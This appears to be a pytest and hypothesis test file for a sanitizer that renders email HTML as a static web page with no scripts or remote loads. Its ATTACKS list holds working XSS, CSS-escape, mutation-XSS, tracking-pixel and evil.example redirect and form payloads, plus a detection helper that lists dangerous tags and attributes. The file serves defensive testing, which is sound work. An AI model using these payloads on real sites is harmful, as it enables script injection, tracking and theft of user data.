"""A mail as a web page: it looks as it was meant, and neither runs nor loads anything."""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from misfin.store.message.web_page import MAX_PICTURES, web_page

PNG = b"\x89PNG\r\n\x1a\nrest"


def mail(markup: str, *files: bytes) -> bytes:
    parts = [b"Content-Type: text/html; charset=utf-8\n\n" + markup.encode("utf-8", "replace"), *files]
    return (
        b"From: a@b\nSubject: <b>S\xc3\xbcbject</b>\nContent-Type: multipart/related; boundary=b\n\n--b\n"
        + b"\n--b\n".join(parts)
        + b"\n--b--\n"
    )


def picture(name: str, kind: str = "image/png", content: bytes = PNG) -> bytes:
    head = f"Content-Type: {kind}\nContent-ID: <{name}>\nContent-Transfer-Encoding: base64\n\n"
    return head.encode() + base64.encodebytes(content)


class Elements(HTMLParser):
    """Every element of a page with its attributes, as an independent parser sees them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def body(page: str) -> str:
    return page.partition("</p>")[2].rpartition("\n</body>")[0].strip()


def loaded(page: str) -> list[str]:
    """Whatever a browser could load or run for a page, but for pictures inside it."""
    found = []
    for tag, attributes in Elements(page).found:
        if tag in ("script", "style", "link", "iframe", "object", "embed", "form", "svg", "base", "video"):
            found.append(tag)
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() not in (
            "",
            "content-security-policy",
        ):
            found.append(str(attributes))
        for name, value in attributes.items():
            value = value or ""
            if name.startswith("on") or name in (
                "srcset",
                "background",
                "poster",
                "action",
                "srcdoc",
                "ping",
            ):
                found.append(name)
            if name == "src" and not value.startswith("data:image/"):
                found.append(value)
            if name == "href" and not re.match(r"(?i)(https?|mailto):", value):
                found.append(value)
            if name == "style" and re.search(r"(?i)url|expression|import|\\", value):
                found.append(value)
    return found


def test_a_page_keeps_its_looks_and_its_links():
    page = web_page(
        mail(
            '<table width="600" bgcolor="#eeeeee"><tr>'
            '<td style="color:red;position:fixed;padding:4px">Grüße</td></tr></table>'
            '<a href="https://x.example/?a=1&amp;b=2" onclick="run()" target="_blank">go</a>'
        )
    )
    assert '<td style="color:red;padding:4px">Grüße</td>' in page
    assert '<table width="600" bgcolor="#eeeeee">' in page
    assert '<a href="https://x.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow">go</a>' in page
    assert "<title>&lt;b&gt;Sübject&lt;/b&gt;</title>" in page
    policy = next(each for tag, each in Elements(page).found if tag == "meta" and "http-equiv" in each)
    assert policy["content"].startswith("default-src 'none'; img-src data:;")
    assert page.index("Content-Security-Policy") < page.index("<title>")


def test_pictures_that_came_along_are_inside_the_page():
    page = web_page(mail('<img src="cid:a%40b" alt="x"><img src="CID:a@b">', picture("a@b")))
    assert page.count("data:image/png;base64," + base64.b64encode(PNG).decode()) == 2
    assert "Nothing in this page is loaded from the network." in page
    inline = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
    assert f'<img src="{inline}">' in web_page(mail(f'<img src="{inline}">'))


@pytest.mark.parametrize("kind", ["image/svg+xml", "text/html", "application/pdf"])
def test_only_pictures_that_cannot_hold_scripts_are(kind):
    page = web_page(mail('<img src="cid:a">', picture("a", kind, b"<svg onload=alert(1)>")))
    assert "data:" not in body(page)
    assert "Shown without 1 picture that did not come with the message." in page


def test_one_picture_used_often_does_not_fill_the_memory():
    page = web_page(mail('<img src="cid:a">' * 1000, picture("a", content=b"x" * 1_000_000)))
    assert len(page) < MAX_PICTURES * 1.5


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://track.example/o.gif">',
    '<img srcset="https://track.example/o.gif 2x" src="//track.example/x">',
    '<a href="javascript:alert(1)">x</a><a href="data:text/html,<script>1</script>">y</a>',
    '<a href="JaVa&#115;cript:alert(1)">x</a><a href=" vbscript:x">y</a><a href="file:///etc/passwd">z</a>',
    '<p style="background:url(https://track.example/x.png);color:red">x</p>',
    '<p style="background:\\75rl(https://track.example/x.png)">x</p>',
    '<p style="background-color:red;background:u/**/rl(//x)">x</p>',
    "<p style=\"width:expression(alert(1));list-style-image:image-set('https://x' 1x)\">x</p>",
    "<style>@import 'https://track.example/x.css'; body { background: url(https://x) }</style>",
    '<link rel="stylesheet" href="https://track.example/x.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<iframe src=https://x></iframe><object data=https://x></object><embed src=https://x>",
    "<svg><script>alert(1)</script><image href='https://x'/></svg><math href=javascript:1>x</math>",
    '<form action="https://evil.example/"><input name=p><button>go</button></form>',
    "<video src=https://x poster=https://y><source src=https://z></video><audio src=https://x autoplay>",
    '<body background="https://x" onload=alert(1)><table background="https://x">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "</body></html><script>alert(1)</script>",
    "<a href='https://x' ping='https://track.example'>x</a><template><img src=x onerror=1></template>",
    "</p></td></table></title></head><plaintext><script>alert(1)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_run_and_nothing_is_loaded(attack):
    page = web_page(mail(f"<p>before</p>{attack}<p>after</p>"))
    assert loaded(page) == []
    assert "before" in page


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(ATTACKS) | st.text(max_size=20) | st.sampled_from("<>\"'=/&; "), max_size=8))
def test_no_mixture_gets_through(pieces):
    assert loaded(web_page(mail("".join(pieces)))) == []


def test_a_mail_without_html_is_shown_as_it_is():
    page = web_page(b"From: a@b\nSubject: x\n\n1 < 2 <script>alert(1)</script>\n")
    assert body(page) == "<pre>1 &lt; 2 &lt;script&gt;alert(1)&lt;/script&gt;\n</pre>"
